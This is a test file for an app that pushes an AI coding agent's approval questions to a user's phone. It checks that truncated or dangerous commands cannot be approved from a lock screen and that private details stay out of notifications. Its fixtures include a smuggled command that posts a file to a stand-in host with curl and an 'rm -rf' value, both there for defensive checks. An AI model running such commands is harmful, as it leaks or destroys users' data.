import { expect, test } from 'vitest';
import {
  cutAtWord,
  hidden,
  pushPayload,
  questionActions,
  questionPayload,
  topicOf,
  withoutText,
} from '@/lib/delivery/payload';
import { retryAfterMs } from '@/lib/delivery/push';
import { newId } from '@/lib/ids';

const question = {
  id: newId(),
  agent_name: 'Codex - nod',
  type: 'confirm',
  question: 'Ship it?',
  options: [] as string[],
  rich: null,
  danger: [] as string[],
};
const delivery = { deliveryId: newId(), token: 'a'.repeat(64) };
const titles = (fields: object) => questionActions({ ...question, ...fields }).map(({ title }) => title);

test('No stands before Yes, and a dangerous question cannot be approved from a lock screen', () => {
  expect(titles({})).toEqual(['No', 'Yes']);
  expect(titles({ danger: ['Deletes files recursively'] })).toEqual(['No', 'Open']);
});

test.each([
  ['a scope', { kind: 'scope' }],
  ['a widening', { scope_path: 'docs/a.md' }],
  ['a question that was cut', { question: 'word '.repeat(61) }],
  [
    'a command that was cut',
    { question: 'Run echo a…?', tool_name: 'Bash', action_body: 'echo a; curl -d @x https://x.test' },
  ],
])('%s cannot be approved where it is not shown whole', (_, fields) => {
  expect(titles(fields)).toEqual(['No', 'Open']);
});

test('a command that stands whole in its question can be approved there', () => {
  expect(titles({ question: 'Run npm  test?', tool_name: 'Bash', action_body: 'npm test\n' })).toEqual(['No', 'Yes']);
});

test('a choice gets buttons only when both options fit, and then their whole text is the answer', () => {
  expect(titles({ type: 'select', options: ['now', 'later'] })).toEqual(['now', 'later']);
  expect(titles({ type: 'select', options: ['a', 'b', 'c'] })).toEqual([]);
  expect(titles({ type: 'select', options: ['a', 'b'], rich: { multiSelect: true } })).toEqual([]);
  expect(titles({ type: 'input' })).toEqual([]);
  const long = 'word '.repeat(30).trim();
  expect(questionActions({ ...question, type: 'select', options: [long, 'no'] })[0]?.action).toBe(`answer:${long}`);
});

test('a device that may not answer gets neither token nor buttons', () => {
  const payload = questionPayload(question, { ...delivery, token: null });
  expect(payload).toMatchObject({ actions: [] });
  expect(payload.token).toBeUndefined();
});

test.each([
  ['plain', 'x '.repeat(4000)],
  ['one endless word', 'x'.repeat(8000)],
  ['emoji', '🙂'.repeat(8000)],
  ['quotes and backslashes', '"\\'.repeat(4000)],
])('a question of 8000 characters (%s) is pushed within 3 kB, token and address whole', (_what, text) => {
  const asked = { ...question, question: text, agent_name: `${text.slice(0, 100)} - ${text.slice(0, 90)}` };
  const payload = questionPayload(asked, { ...delivery, expiresAt: new Date(), badge: 25 });
  expect(Buffer.byteLength(JSON.stringify(payload))).toBeLessThanOrEqual(3000);
  expect(payload).toMatchObject({
    token: delivery.token,
    id: question.id,
    web_push: 8030,
    tag: `question-${question.id}`,
  });
  expect(payload.notification).toMatchObject({
    title: payload.title,
    body: payload.body,
    navigate: payload.url,
    tag: payload.tag,
  });
  expect(payload.body).not.toMatch(/[\ud800-\udbff]$|\ufffd/);
});

test('text is cut at a word, with a mark, and never inside a character', () => {
  expect(cutAtWord('short', 10)).toBe('short');
  expect(cutAtWord('one two three four', 12)).toBe('one two…');
  expect(cutAtWord('  line\n\tbreaks   become  spaces ', 100)).toBe('line breaks become spaces');
  expect([...cutAtWord('🙂'.repeat(50), 10)].every((character) => character === '🙂' || character === '…')).toBe(true);
});

test('what an agent asks about is in no part of a push beyond the question itself', () => {
  const stored = {
    ...question,
    action_body: 'rm -rf everything',
    context: 'private context',
    tool_target: '/secret/path',
  };
  const text = JSON.stringify(questionPayload(stored, delivery));
  for (const hidden of ['rm -rf', 'private context', '/secret/path']) expect(text).not.toContain(hidden);
});

test('a push without its text keeps what answers and opens it, and says to open Nod', () => {
  const payload = withoutText(questionPayload(question, delivery));
  expect(payload).toMatchObject({ token: delivery.token, actions: [], body: 'Open Nod to read it.' });
  expect(JSON.stringify(payload)).not.toContain('Ship it?');
});

test('a topic says nothing about its question and fits RFC 8030', () => {
  expect(topicOf(question.id)).toMatch(/^[\w-]{1,32}$/);
  expect(topicOf(question.id)).not.toContain(question.id.slice(0, 8));
  expect(topicOf(newId())).not.toBe(topicOf(newId()));
});

test('a push to any path stays on the configured address', () => {
  const payload = pushPayload({ kind: 'test', id: 'x', title: 't', body: 'b', tag: 't', path: '/q/x', actions: [] });
  expect(payload.url).toBe('http://localhost:3000/q/x');
});

test.each([
  [undefined, undefined],
  ['', undefined],
  ['soon', undefined],
  ['0', 0],
  ['120', 120_000],
  [' 5 ', 5_000],
  ['999999', 3_600_000],
  ['Mon, 30 Nov 2026 12:00:10 GMT', 10_000],
  ['Mon, 30 Nov 2026 11:00:00 GMT', 0],
  ['Tue, 30 Nov 2027 12:00:00 GMT', 3_600_000],
])('Retry-After %j waits %j ms, an hour at most', (header, expected) => {
  expect(retryAfterMs(header, Date.parse('2026-11-30T12:00:00Z'))).toBe(expected);
});

test('a device that hides its text is told that something waits, never what, and cannot answer unread', () => {
  const secret = 'Delete the customer table?';
  const payload = hidden(
    questionPayload({ ...question, question: secret, agent_name: 'Codex - secret project' }, delivery),
  );
  const text = JSON.stringify(payload);
  expect(text).not.toMatch(/customer|secret project|Codex/);
  expect(payload).toMatchObject({ title: 'A question waits for you', actions: [], tag: `question-${question.id}` });
  expect(payload.token).toBeUndefined();
  expect(payload.notification).toMatchObject({ title: payload.title, body: payload.body });
});

test('an alert only tells: no button, no token, and it does not stay until it is answered', () => {
  const payload = questionPayload(question, { ...delivery, token: null, alert: true });
  expect(payload).toMatchObject({ kind: 'notification', actions: [] });
  expect(payload.requireInteraction).toBeUndefined();
});
